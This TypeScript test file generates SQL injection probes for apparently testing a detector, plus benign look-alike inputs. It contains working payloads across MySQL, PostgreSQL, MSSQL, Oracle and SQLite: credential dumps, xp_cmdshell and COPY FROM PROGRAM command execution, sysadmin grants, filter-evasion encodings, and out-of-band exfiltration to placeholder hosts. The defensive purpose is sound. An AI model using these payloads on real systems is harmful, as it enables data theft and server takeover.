// SQL injection as the other tools send it once a parameter looks injectable: a scanner's boundary
// (the application's number or quoted string closed, then a balanced or commented tail), one of six
// techniques (boolean, time, error, union, stacked, out-of-band) in the vocabulary of one database
// (MySQL, PostgreSQL, MSSQL, Oracle, SQLite), an evasion applied to the SQL (comments or line breaks
// for blanks, mixed case, MySQL's versioned comments, symbolic AND/OR, LIKE for `=`, double URL
// encoding, `+` blanks) and a carrier (query, form, JSON, cookie, User-Agent, X-Forwarded-For,
// Referer, an application header). Written for this test from how those tools work, not from their
// payload lists; sqli-tamper.ts holds sqlmap's named tampers, sqli-dialects.ts each database's probe words.
// And what such tools must leave alone: prose with SQL words, names with apostrophes, SQL in the
// code and docs fields of an issue tracker, search queries.
import fc from "fast-check";
import type { Req } from "../engine.js";
import { rng, type R } from "./rng.js";

export type Dialect = "mysql" | "pg" | "mssql" | "oracle" | "sqlite";
export type Technique = "boolean" | "time" | "error" | "union" | "stacked" | "oob";
export const TECHNIQUES: Technique[] = ["boolean", "time", "error", "union", "stacked", "oob"];

const pick = <T>(r: R, xs: readonly T[]): T => xs[r(xs.length)];
const w = (r: R, n = 5) => Array.from({ length: n }, () => String.fromCharCode(0x61 + r(26))).join("");
const num = (r: R) => 100 + r(9900);
const secs = (r: R) => 2 + r(9);
const chr = (r: R) => 48 + r(75);
const host = (r: R) => `${w(r, 6)}.${pick(r, ["oast.example", "collab.example", "x.example"])}`;
const cols = (r: R, f: (k: number) => string) => Array.from({ length: 1 + r(5) }, (_, k) => f(k)).join(",");

/**
 * How a payload joins the application's query: `cond` follows its value after a blank (AND/OR/RLIKE ...),
 * `tail` too but must cut the query off after it (UNION, ORDER BY), `stack` follows it glued (`;...`),
 * `concat` sits between two quotes of a string context (`'||x||'`).
 */
type Join = "cond" | "tail" | "stack" | "concat";
interface Shape { d: Dialect; j: Join; sql: (r: R) => string }
const s = (d: Dialect, j: Join, sql: (r: R) => string): Shape => ({ d, j, sql });

export const TOOL_SHAPES: Record<Technique, Shape[]> = {
  boolean: [
    s("mysql", "cond", (r) => { const a = num(r); return `AND ${a}=${a}`; }),
    s("mysql", "cond", (r) => { const a = num(r); return `OR ${a}=${a + 1 + r(9)}`; }),
    s("mysql", "cond", (r) => `AND ASCII(SUBSTRING((SELECT table_name FROM information_schema.tables LIMIT ${r(9)},1),${1 + r(9)},1))>${chr(r)}`),
    s("mysql", "cond", (r) => `AND MID(@@version,1,1)='${5 + r(4)}'`),
    s("mysql", "cond", (r) => { const a = num(r); return `AND ELT(${a}=${a},${num(r)})`; }),
    s("mysql", "cond", (r) => { const a = num(r); return `RLIKE (SELECT CASE WHEN (${a}=${a}) THEN 1 ELSE 0x28 END)`; }),
    s("pg", "cond", (r) => { const a = num(r); return `AND (SELECT ${a})=${a}`; }),
    s("pg", "cond", (r) => `AND SUBSTR(current_user,1,1)='${w(r, 1)}'`),
    s("pg", "cond", (r) => `AND EXISTS(SELECT 1 FROM pg_roles WHERE rolname='${pick(r, ["postgres", "admin"])}')`),
    s("pg", "cond", (r) => `AND LENGTH(current_database())>${1 + r(12)}`),
    s("mssql", "cond", (r) => `AND LEN(DB_NAME())>${1 + r(12)}`),
    s("mssql", "cond", (r) => `AND UNICODE(SUBSTRING(SYSTEM_USER,${1 + r(6)},1))>${chr(r)}`),
    s("mssql", "cond", () => "AND IS_SRVROLEMEMBER('sysadmin')=1"),
    s("mssql", "cond", (r) => `AND (SELECT TOP 1 name FROM sys.databases)='${pick(r, ["master", "tempdb"])}'`),
    s("oracle", "cond", (r) => `AND (SELECT COUNT(*) FROM all_users)>${r(40)}`),
    s("oracle", "cond", (r) => `AND ASCII(SUBSTR((SELECT banner FROM v$version WHERE rownum=1),${1 + r(9)},1))>${chr(r)}`),
    s("oracle", "cond", (r) => `AND NVL(LENGTH(USER),0)>${r(9)}`),
    s("oracle", "cond", () => "AND ROWNUM=1"),
    s("sqlite", "cond", () => "AND (SELECT count(*) FROM sqlite_master)>0"),
    s("sqlite", "cond", () => "AND substr(sqlite_version(),1,1)='3'"),
    s("sqlite", "cond", (r) => `AND typeof(${num(r)})='integer'`),
    s("sqlite", "cond", (r) => { const a = num(r); return `AND ${a}=iif(1=1,${a},0)`; }),
    // a column of the application's table tested, as a tester does once the boolean difference shows
    s("mysql", "cond", (r) => `AND ${pick(r, ["is_admin", "role_id", "active", "status"])}=${r(3)}`),
    s("pg", "cond", (r) => `OR ${pick(r, ["username", "login", "email"])}='${pick(r, ["admin", "root", "administrator"])}'`),
  ],
  time: [
    s("mysql", "cond", (r) => `AND SLEEP(${secs(r)})`),
    s("mysql", "cond", (r) => `AND (SELECT ${num(r)} FROM (SELECT(SLEEP(${secs(r)})))${w(r, 4)})`),
    s("mysql", "cond", (r) => { const a = num(r); return `OR IF(${a}=${a},SLEEP(${secs(r)}),0)`; }),
    s("mysql", "cond", (r) => `AND ${num(r)}=BENCHMARK(${secs(r)}000000,SHA1(${num(r)}))`),
    s("mysql", "concat", (r) => `XOR(IF(NOW()=SYSDATE(),SLEEP(${secs(r)}),0))XOR`),
    s("mysql", "tail", (r) => `ORDER BY SLEEP(${secs(r)})`),
    s("pg", "cond", (r) => { const a = num(r); return `AND ${a}=(SELECT ${a} FROM PG_SLEEP(${secs(r)}))`; }),
    s("pg", "stack", (r) => `;SELECT pg_sleep(${secs(r)})`),
    s("pg", "concat", (r) => `||pg_sleep(${secs(r)})||`),
    s("pg", "cond", (r) => { const a = num(r); return `AND (SELECT CASE WHEN (${a}=${a}) THEN pg_sleep(${secs(r)}) ELSE pg_sleep(0) END) IS NULL`; }),
    s("mssql", "stack", (r) => `;WAITFOR DELAY '0:0:${secs(r)}'`),
    s("mssql", "tail", (r) => `WAITFOR DELAY '00:00:0${secs(r) % 10}'`),
    s("mssql", "stack", (r) => { const a = num(r); return `;IF (${a}=${a}) WAITFOR DELAY '0:0:${secs(r)}'`; }),
    s("oracle", "cond", (r) => `AND ${num(r)}=DBMS_PIPE.RECEIVE_MESSAGE('${w(r, 4).toUpperCase()}',${secs(r)})`),
    s("oracle", "concat", (r) => `||DBMS_PIPE.RECEIVE_MESSAGE(CHR(${65 + r(26)}),${secs(r)})||`),
    s("oracle", "cond", (r) => `AND 1=(SELECT CASE WHEN (1=1) THEN DBMS_PIPE.RECEIVE_MESSAGE('${w(r, 1)}',${secs(r)}) ELSE 1 END FROM dual)`),
    s("sqlite", "cond", (r) => `AND ${num(r)}=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(${secs(r)}00000000/2))))`),
    s("sqlite", "cond", () => "AND (SELECT count(*) FROM sqlite_master AS a, sqlite_master AS b, sqlite_master AS c)>0"),
  ],
  error: [
    s("mysql", "cond", (r) => `AND EXTRACTVALUE(${num(r)},CONCAT(0x7e,(SELECT ${pick(r, ["version()", "user()", "database()"])}),0x7e))`),
    s("mysql", "cond", (r) => `AND UPDATEXML(${num(r)},CONCAT(0x2e,(SELECT user())),${num(r)})`),
    s("mysql", "cond", () => "AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)"),
    s("mysql", "cond", () => "AND EXP(~(SELECT * FROM (SELECT user())a))"),
    s("mysql", "cond", (r) => `AND GTID_SUBSET(CONCAT(0x7e,(SELECT user()),0x7e),${num(r)})`),
    s("mysql", "cond", () => "AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e,version())) USING utf8)))"),
    s("pg", "cond", (r) => `AND ${num(r)}=CAST((SELECT version()) AS int)`),
    s("pg", "cond", (r) => `AND ${num(r)}=(SELECT current_database())::int`),
    s("pg", "cond", () => "AND 1=CAST(chr(126)||(SELECT usename FROM pg_user LIMIT 1) AS NUMERIC)"),
    s("mssql", "cond", (r) => `AND ${num(r)}=CONVERT(INT,(SELECT @@version))`),
    s("mssql", "cond", (r) => `AND ${num(r)}=CONVERT(INT,DB_NAME())`),
    s("mssql", "concat", () => "+CONVERT(INT,@@version)+"),
    s("mssql", "cond", () => "AND 1 IN (SELECT SUSER_NAME())"),
    s("oracle", "cond", (r) => { const a = num(r); return `AND ${a}=CTXSYS.DRITHSX.SN(${a},(SELECT user FROM dual))`; }),
    s("oracle", "cond", (r) => `AND ${num(r)}=UTL_INADDR.GET_HOST_NAME((SELECT banner FROM v$version WHERE rownum=1))`),
    s("oracle", "cond", () => "AND 1=TO_NUMBER((SELECT user FROM dual))"),
    s("sqlite", "cond", () => "AND 1=abs(-9223372036854775808)"),
    s("sqlite", "cond", () => "AND CAST((SELECT sql FROM sqlite_master LIMIT 1) AS int)=1"),
  ],
  union: [
    s("mysql", "tail", (r) => `UNION ALL SELECT ${cols(r, () => "NULL")}`),
    s("mysql", "tail", (r) => `UNION SELECT ${cols(r, (k) => String(k + 1))}`),
    s("mysql", "tail", () => "UNION SELECT group_concat(table_name),2 FROM information_schema.tables WHERE table_schema=database()"),
    s("mysql", "tail", () => "UNION SELECT 1,@@version,3"),
    s("mysql", "tail", () => "UNION ALL SELECT CONCAT_WS(0x3a,user,authentication_string),2 FROM mysql.user"),
    s("mysql", "tail", () => "UNION SELECT * FROM (SELECT 1)a JOIN (SELECT 2)b"),
    s("mysql", "tail", (r) => `ORDER BY ${1 + r(20)}`),
    s("pg", "tail", () => "UNION SELECT NULL,string_agg(usename,',') FROM pg_user"),
    s("pg", "tail", () => "UNION ALL SELECT NULL,version()"),
    s("mssql", "tail", () => "UNION SELECT name,NULL FROM master..sysdatabases"),
    s("mssql", "tail", () => "UNION ALL SELECT TOP 1 name,1 FROM sys.tables"),
    s("oracle", "tail", () => "UNION SELECT NULL,banner FROM v$version"),
    s("oracle", "tail", () => "UNION ALL SELECT NULL,username FROM all_users"),
    s("sqlite", "tail", () => "UNION SELECT sql,NULL FROM sqlite_master"),
    s("sqlite", "tail", () => "UNION SELECT name,1 FROM sqlite_schema WHERE type='table'"),
    s("sqlite", "tail", () => "UNION SELECT sqlite_version(),2"),
  ],
  stacked: [
    s("mysql", "stack", (r) => `;INSERT INTO users(login,role) VALUES('${w(r)}','admin')`),
    s("mysql", "stack", () => ";SET @q=CONCAT('SEL','ECT 1');PREPARE s FROM @q;EXECUTE s"),
    s("mysql", "stack", () => ";SELECT user() INTO @x"),
    s("mysql", "stack", () => ";SHOW TABLES"),
    s("pg", "stack", (r) => { const t = w(r); return `;CREATE TABLE ${t}(t text);COPY ${t} FROM PROGRAM 'id'`; }),
    s("pg", "stack", (r) => `;DROP TABLE IF EXISTS ${w(r)}`),
    s("pg", "stack", (r) => `;DO $$BEGIN PERFORM pg_sleep(${secs(r)});END$$`),
    s("mssql", "stack", () => ";EXEC sp_configure 'show advanced options',1;RECONFIGURE"),
    s("mssql", "stack", () => `;EXEC xp_cmdshell 'whoami'`),
    s("mssql", "stack", () => ";EXEC sp_who"),
    s("mssql", "stack", () => ";DBCC TRACEON(3604)"),
    s("mssql", "stack", () => ";DECLARE @v varchar(99);SET @v=@@version"),
    s("mssql", "stack", () => ";EXEC('SEL'+'ECT 1')"),
    s("mssql", "stack", (r) => `;EXEC master.dbo.sp_addsrvrolemember '${w(r)}','sysadmin'`),
    s("sqlite", "stack", () => ";PRAGMA table_info(users)"),
    s("sqlite", "stack", () => ";PRAGMA writable_schema=ON"),
    s("sqlite", "stack", (r) => { const a = w(r); return `;ATTACH DATABASE '/var/www/${a}.php' AS ${a}`; }),
  ],
  oob: [
    s("mysql", "cond", (r) => `AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT user()),'.${host(r)}\\\\a'))`),
    s("mysql", "tail", (r) => `UNION SELECT 1 INTO OUTFILE '\\\\\\\\${host(r)}\\\\a'`),
    s("pg", "stack", (r) => `;COPY (SELECT '') TO PROGRAM 'nslookup ${host(r)}'`),
    s("pg", "stack", (r) => `;SELECT dblink_connect('host=${host(r)} user=u dbname=d')`),
    s("mssql", "stack", (r) => `;EXEC master..xp_dirtree '\\\\${host(r)}\\a'`),
    s("mssql", "stack", (r) => `;EXEC master..xp_fileexist '\\\\${host(r)}\\a'`),
    s("mssql", "cond", (r) => `AND 1=(SELECT 1 FROM OPENROWSET('SQLOLEDB','server=${host(r)};uid=sa;pwd=x','SELECT 1'))`),
    s("oracle", "cond", (r) => `AND ${num(r)}=UTL_HTTP.REQUEST('http://${host(r)}/'||(SELECT user FROM dual))`),
    s("oracle", "cond", (r) => `AND ${num(r)}=UTL_INADDR.GET_HOST_ADDRESS((SELECT user FROM dual)||'.${host(r)}')`),
    s("oracle", "cond", (r) => `AND ${num(r)}=DBMS_LDAP.INIT((SELECT user FROM dual)||'.${host(r)}',80)`),
    s("oracle", "cond", (r) => `AND ${num(r)}=HTTPURITYPE('http://${host(r)}/').GETCLOB()`),
    s("sqlite", "cond", (r) => `AND load_extension('\\\\${host(r)}\\a')`),
  ],
};

/** The application's literal the value closes: a number (maybe in parentheses) or a quoted string. */
const NUMERIC = [(r: R) => `${1 + r(99)}`, (r: R) => `${1 + r(99)})`, (r: R) => `-${1 + r(99)}`, (r: R) => `${1 + r(99)}))`];
const QUOTED = [(r: R) => `${w(r)}'`, (r: R) => `${w(r)}')`, (r: R) => `${w(r)}"`, () => "'", (r: R) => `${w(r)}%'`];

/** A tail that keeps the query valid: a comment (MySQL's `#` there only), or a balanced condition reopening the quote. */
function closing(open: string, d: Dialect, r: R): string {
  const comments = d === "mysql" ? ["-- -", "#", "--+"] : ["-- -", "--"];
  const q = open.endsWith("'") || open.endsWith("')") ? "'" : open.endsWith("\"") ? "\"" : "";
  if (!q || r(2)) return open.endsWith("'") || open.endsWith("\"") || open.endsWith(")") || r(2) ? pick(r, comments) : "";
  const x = w(r, 1 + r(3));
  const paren = open.endsWith(")") ? "(" : "";
  return open.endsWith("%'") ? " AND '%'='" : ` AND ${paren}${q}${x}${q}=${q}${x}`;
}

/** Evasions applied to the SQL the tool wrote (never to the boundary's quote); `mysql` ones only where MySQL reads them. */
interface Evasion { name: string; mysql?: boolean; lines?: boolean; apply(sql: string, r: R): string }
const KW = /\b(UNION|SELECT|FROM|WHERE|AND|OR|SLEEP|CONCAT|ORDER|BY|ALL|NULL|IF|INSERT|INTO)\b/g;
/** Replaces every blank of the SQL (inside its string literals too, as the tools do). */
const blanks = (sql: string, f: () => string) => sql.replace(/ /g, f);
const EVASIONS: Evasion[] = [
  { name: "none", apply: (sql) => sql },
  { name: "comment-blanks", apply: (sql) => blanks(sql, () => "/**/") },
  { name: "worded-comment-blanks", apply: (sql, r) => blanks(sql, () => `/*${w(r, 1 + r(6))}*/`) },
  { name: "newline-blanks", lines: true, apply: (sql) => blanks(sql, () => "\n") },
  { name: "tab-blanks", apply: (sql) => blanks(sql, () => "\t") },
  { name: "vt-ff-blanks", mysql: true, apply: (sql, r) => blanks(sql, () => pick(r, ["\u000b", "\u000c"])) },
  { name: "mixed-case", apply: (sql, r) => sql.replace(/[a-z]/gi, (c) => (r(2) ? c.toUpperCase() : c.toLowerCase())) },
  { name: "lower-case", apply: (sql) => sql.toLowerCase() },
  { name: "versioned-keywords", mysql: true, apply: (sql, r) => sql.replace(KW, (k) => `/*!${40000 + r(20000)}${k}*/`) },
  { name: "versioned-body", mysql: true, apply: (sql, r) => `/*!${40000 + r(20000)}${sql}*/` },
  { name: "symbolic-logic", mysql: true, apply: (sql) => sql.replace(/ AND /g, " && ").replace(/ OR /g, " || ") },
  { name: "like-for-equals", apply: (sql) => sql.replace(/(\d+)=(\d+)/g, "$1 LIKE $2") },
];

/** Where the tool sends the value; `wire`: how a URL-encoded carrier spells it (one encoding, `+` blanks, or two encodings). */
export type Carrier = "query" | "form" | "json" | "cookie" | "user-agent" | "x-forwarded-for" | "referer" | "x-customer-id";
export const CARRIERS: Carrier[] = ["query", "form", "json", "cookie", "user-agent", "x-forwarded-for", "referer", "x-customer-id"];
const URL_CARRIERS: Carrier[] = ["query", "form", "cookie", "referer"];
const enc = (v: string) => encodeURIComponent(v).replace(/[!'()*]/g, (c) => "%" + c.charCodeAt(0).toString(16).toUpperCase());
const WIRES = [enc, (v: string) => enc(v).replace(/%20/g, "+"), (v: string) => enc(v).replace(/%/g, "%25")];

export function carry(value: string, carrier: Carrier, wire: number, name: string): Req {
  const h: [string, string] = ["host", "shop.example"];
  const v = WIRES[wire % WIRES.length](value);
  const flat = value.replace(/[\r\n]/g, "\t");
  switch (carrier) {
    case "query": return { path: `/catalog/items?${name}=${v}&page=1`, headers: [h] };
    case "form": return { method: "POST", path: "/account/login", headers: [h, ["content-type", "application/x-www-form-urlencoded"]], body: `${name}=${v}&password=hunter2` };
    case "json": return { method: "POST", path: "/api/orders/search", headers: [h, ["content-type", "application/json"]], body: JSON.stringify({ filter: { [name]: value }, page: 1 }) };
    case "cookie": return { path: "/", headers: [h, ["cookie", `lang=en; ${name}=${v}`]] };
    case "referer": return { path: "/", headers: [h, ["referer", `https://shop.example/catalog/items?${name}=${v}`]] };
    default: return { path: "/", headers: [h, [carrier, flat]] };
  }
}

export interface ToolProbe { family: Technique; k: number; dialect: Dialect; evasion: string; carrier: Carrier; value: string; req: Req }

/** A probe of `techniques`: a shape, a boundary fitting its join, an evasion its database reads, a carrier. */
export function toolProbe(techniques: Technique[] = TECHNIQUES): fc.Arbitrary<ToolProbe> {
  return fc.record({ seed: fc.nat(), t: fc.nat(techniques.length - 1), k: fc.nat(63), e: fc.nat(EVASIONS.length - 1), c: fc.nat(CARRIERS.length - 1) }).map(({ seed, t, k: k0, e, c }) => {
    const r = rng(seed);
    const family = techniques[t];
    const k = k0 % TOOL_SHAPES[family].length;
    const shape = TOOL_SHAPES[family][k];
    let ev = EVASIONS[e];
    const carrier = CARRIERS[c];
    if ((ev.mysql && shape.d !== "mysql") || (ev.lines && !["query", "form", "json"].includes(carrier))) ev = EVASIONS[0];
    const sql = ev.apply(shape.sql(r), r);
    let value: string;
    if (shape.j === "concat") {
      value = `${w(r)}'${sql}'`;
    } else {
      const open = pick(r, shape.j === "cond" && r(2) ? QUOTED : r(3) ? NUMERIC : QUOTED)(r);
      const end = shape.j === "cond" ? closing(open, shape.d, r) : pick(r, shape.d === "mysql" ? ["-- -", "#", "--+"] : ["-- -", "--"]);
      value = `${open}${shape.j === "stack" ? "" : " "}${sql}${end}`;
    }
    const name = pick(r, ["id", "item", "customerId", "sku", "user", "category"]);
    return { family, k, dialect: shape.d, evasion: ev.name, carrier, value, req: carry(value, carrier, URL_CARRIERS.includes(carrier) ? r(3) : 0, name) };
  });
}

export const EVASION_NAMES = EVASIONS.map((x) => x.name);

// ---------------------------------------------------------------- look-alikes

/** Text with the tools' words where users put it: search boxes, names, comments, an issue tracker's fields. */
const PROSE = [
  "Please select one option from the list below", "select a delivery date from the calendar", "union square cafes open late",
  "I'll order by phone, limit 1 per customer", "sort order by date, newest first", "limit 1 per household", "drop table tennis bats",
  "sleep 8 hours before the exam", "benchmark results 2024 for laptops", "where is the union station exit", "1 and 2 bedroom flats",
  "2 or 3 nights in Lisbon", "3 OR 4 stars only", "delete from my wishlist please", "insert coin to continue", "update your profile from the menu",
  "order 66 by the chancellor", "exec summary for Q3", "waitfor it: the sequel", "concat of two lists in python", "char count of a tweet",
  "case when it rains, bring a coat", "between 10 and 20 dollars", "is null the same as empty?", "like 1 like 2",
];
const NAMES = [
  "O'Brien", "D'Arcy O'Neil", "Rock 'n' Roll Diner", "Mc'Donald & Sons", "L'Oréal Paris", "Ng'ang'a", "O'Hara, Scarlett", "Guns N' Roses",
  "5' 11\" tall", "it's 1 o'clock", "the '90s", "'Round Midnight",
];
/** Issue-tracker and docs fields that quote SQL the way engineers do: in prose, with placeholders, in long reports. */
const ISSUE = [
  "Slow query on the orders page. It runs `SELECT id, total FROM orders WHERE customer_id = ? ORDER BY created_at DESC LIMIT 20` and takes 3 s on production; an index on (customer_id, created_at) should fix it.",
  "Steps to reproduce:\n1. Open the report page\n2. Pick the date range\n3. The log shows: ERROR 1064 near 'LIMIT 10 OFFSET' at line 1\nExpected: the report renders.",
  "The migration adds a column with ALTER TABLE users ADD COLUMN last_seen timestamp; we need to backfill it in batches so the table is not locked for long.",
  "We use ORDER BY name ASC in the export, but users expect the natural sort order, so item 10 comes after item 9.",
  "Docs: to page through results, pass limit and offset; the server builds LIMIT :limit OFFSET :offset with bound parameters.",
  "Search returns nothing when the title contains an apostrophe, e.g. O'Reilly. Probably the quote is not escaped in the LIKE clause.",
  "Upgrading to PostgreSQL 16 changed the plan: the join on accounts now uses a hash join and the union of both lists is slower.",
  "The nightly job deletes sessions older than 30 days; it should keep the ones where remember_me is true.",
];
const SEARCH = [
  "select comfort mattress", "order by tomorrow", "1=one in logic", "price < 20", "size 10 or 11", "null island", "group by age",
  "where's waldo", "mysql vs postgres", "how to use pg_sleep in tests", "waitfor delay syntax", "sqlite pragma foreign keys",
];

export type LookalikeKind = "prose" | "name" | "issue" | "search";
const LOOKALIKES: Record<LookalikeKind, string[]> = { prose: PROSE, name: NAMES, issue: ISSUE, search: SEARCH };

/** A look-alike in the carriers its kind travels in (issue fields in forms and JSON; names and searches anywhere a value goes). */
export function toolLookalike(kinds: LookalikeKind[] = ["prose", "name", "issue", "search"]): fc.Arbitrary<{ kind: LookalikeKind; value: string; req: Req }> {
  return fc.record({ seed: fc.nat(), k: fc.nat(kinds.length - 1), i: fc.nat(63), c: fc.nat(CARRIERS.length - 1) }).map(({ seed, k, i, c }) => {
    const r = rng(seed);
    const kind = kinds[k];
    const list = LOOKALIKES[kind];
    const value = list[i % list.length];
    const carrier = kind === "issue" ? pick(r, ["form", "json"] as Carrier[]) : CARRIERS[c];
    const name = kind === "issue" ? pick(r, ["body", "description", "comment"]) : kind === "name" ? pick(r, ["name", "display_name", "author"]) : pick(r, ["q", "search", "note"]);
    return { kind, value, req: carry(value, carrier, URL_CARRIERS.includes(carrier) ? r(2) : 0, name) };
  });
}
